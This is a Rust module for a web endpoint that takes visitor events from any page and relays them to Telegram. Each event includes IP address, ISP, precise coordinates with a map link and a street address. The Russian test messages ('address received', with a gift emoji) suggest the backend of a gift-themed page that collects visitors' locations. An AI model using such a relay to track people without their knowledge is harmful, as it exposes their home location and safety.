//! Notification relay.
//!
//! `POST /api/notify` takes a visitor event (from our own sessions or from any
//! page that posts the same JSON), turns it into a chat message and forwards it
//! to Telegram. Without Telegram credentials the message is only logged.

mod telegram;

pub use telegram::{TelegramConfig, TelegramNotifier};

use axum::{
    extract::State,
    http::StatusCode,
    response::{IntoResponse, Response},
    routing::post,
    Json, Router,
};
use serde::Deserialize;
use serde_json::json;
use std::sync::Arc;

use crate::types::NOT_AVAILABLE;

pub type RelayResult<T> = Result<T, RelayError>;

#[derive(Debug, thiserror::Error)]
pub enum RelayError {
    #[error("Telegram delivery failed: {0}")]
    Telegram(String),

    #[error("Invalid relay configuration: {0}")]
    Config(String),
}

/// Incoming event. Every field is optional so older pages can post too.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct NotifyPayload {
    #[serde(rename = "type")]
    pub kind: String,
    pub address: String,
    pub ip: String,
    pub city: String,
    pub region: String,
    pub country: String,
    pub loc: String,
    pub org: String,
    pub timestamp: String,
}

fn or_na(value: &str) -> &str {
    let value = value.trim();
    if value.is_empty() {
        NOT_AVAILABLE
    } else {
        value
    }
}

/// Plain-text chat message for an event
pub fn format_message(payload: &NotifyPayload) -> String {
    let mut lines = vec![or_na(&payload.kind).to_string()];

    if !payload.address.trim().is_empty() {
        lines.push(String::new());
        lines.push(format!("📍 Address: {}", payload.address.trim()));
    }

    lines.push(String::new());
    lines.push(format!("🌐 IP: {}", or_na(&payload.ip)));
    lines.push(format!("🏙 City: {}", or_na(&payload.city)));
    lines.push(format!("🗺 Region: {}", or_na(&payload.region)));
    lines.push(format!("🏳 Country: {}", or_na(&payload.country)));
    lines.push(format!("📡 Provider: {}", or_na(&payload.org)));

    let loc = or_na(&payload.loc);
    lines.push(format!("📌 Coordinates: {}", loc));
    if loc != NOT_AVAILABLE {
        lines.push(format!("https://maps.google.com/?q={}", loc));
    }

    lines.push(format!("🕒 Time: {}", or_na(&payload.timestamp)));
    lines.join("\n")
}

/// Relay state shared by the handler
pub struct Relay {
    telegram: Option<TelegramNotifier>,
}

impl Relay {
    pub fn new(telegram: Option<TelegramNotifier>) -> Self {
        Self { telegram }
    }

    pub fn from_env() -> RelayResult<Self> {
        let telegram = TelegramConfig::from_env()
            .map(|config| TelegramNotifier::new(&config))
            .transpose()?;
        Ok(Self::new(telegram))
    }

    /// Deliver one formatted notification
    pub async fn deliver(&self, payload: &NotifyPayload) -> RelayResult<()> {
        let text = format_message(payload);

        match &self.telegram {
            Some(telegram) => telegram.send(&text).await,
            None => {
                tracing::info!("Notification (not forwarded):\n{}", text);
                Ok(())
            }
        }
    }
}

/// Receive a visitor event and forward it.
///
/// POST /api/notify
pub async fn notify(State(relay): State<Arc<Relay>>, Json(payload): Json<NotifyPayload>) -> Response {
    tracing::info!(kind = %payload.kind, ip = %payload.ip, "Notification received");

    match relay.deliver(&payload).await {
        Ok(()) => (StatusCode::OK, Json(json!({ "ok": true }))).into_response(),
        Err(e) => {
            tracing::error!("Notification relay failed: {}", e);
            (
                StatusCode::BAD_GATEWAY,
                Json(json!({ "ok": false, "error": e.to_string() })),
            )
                .into_response()
        }
    }
}

pub fn router(relay: Arc<Relay>) -> Router {
    Router::new()
        .route("/api/notify", post(notify))
        .with_state(relay)
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::body::Body;
    use axum::http::{header, Request};
    use tower::ServiceExt;

    fn address_payload() -> NotifyPayload {
        NotifyPayload {
            kind: "🎁 АДРЕС ПОЛУЧЕН!".to_string(),
            address: "Tashkent, Chilonzor 9".to_string(),
            ip: "84.54.70.1".to_string(),
            city: "Tashkent".to_string(),
            region: "Tashkent".to_string(),
            country: "UZ".to_string(),
            loc: "41.2646,69.2163".to_string(),
            org: "AS8193 Uzbektelekom".to_string(),
            timestamp: "14.02.2026, 10:00:00".to_string(),
        }
    }

    #[test]
    fn test_format_address_message() {
        let text = format_message(&address_payload());

        assert!(text.starts_with("🎁 АДРЕС ПОЛУЧЕН!\n"));
        assert!(text.contains("📍 Address: Tashkent, Chilonzor 9"));
        assert!(text.contains("🌐 IP: 84.54.70.1"));
        assert!(text.contains("https://maps.google.com/?q=41.2646,69.2163"));
        assert!(text.ends_with("🕒 Time: 14.02.2026, 10:00:00"));
    }

    #[test]
    fn test_format_sparse_message() {
        let payload = NotifyPayload {
            kind: "💝 Страница открыта".to_string(),
            ip: "N/A".to_string(),
            ..Default::default()
        };
        let text = format_message(&payload);

        assert!(!text.contains("Address"));
        assert!(!text.contains("maps.google.com"));
        assert!(text.contains("🏙 City: N/A"));
        assert!(text.contains("📌 Coordinates: N/A"));
    }

    #[tokio::test]
    async fn test_notify_without_telegram() {
        let app = router(Arc::new(Relay::new(None)));

        let response = app
            .oneshot(
                Request::builder()
                    .method("POST")
                    .uri("/api/notify")
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from(r#"{"type":"⏭ Адрес пропущен","timestamp":"now"}"#))
                    .unwrap(),
            )
            .await
            .unwrap();

        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_notify_rejects_non_json() {
        let app = router(Arc::new(Relay::new(None)));

        let response = app
            .oneshot(
                Request::builder()
                    .method("POST")
                    .uri("/api/notify")
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from("not json"))
                    .unwrap(),
            )
            .await
            .unwrap();

        assert!(response.status().is_client_error());
    }

    #[tokio::test]
    async fn test_unreachable_telegram_hides_token() {
        let port = {
            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            listener.local_addr().unwrap().port()
        };
        let mut config = TelegramConfig::new("123:abc".to_string(), "42".to_string());
        config.api_url = format!("http://127.0.0.1:{}", port);
        let relay = Relay::new(Some(TelegramNotifier::new(&config).unwrap()));

        let result = relay.deliver(&address_payload()).await;
        assert!(matches!(result, Err(RelayError::Telegram(ref msg)) if !msg.contains("123:abc")));
    }
}
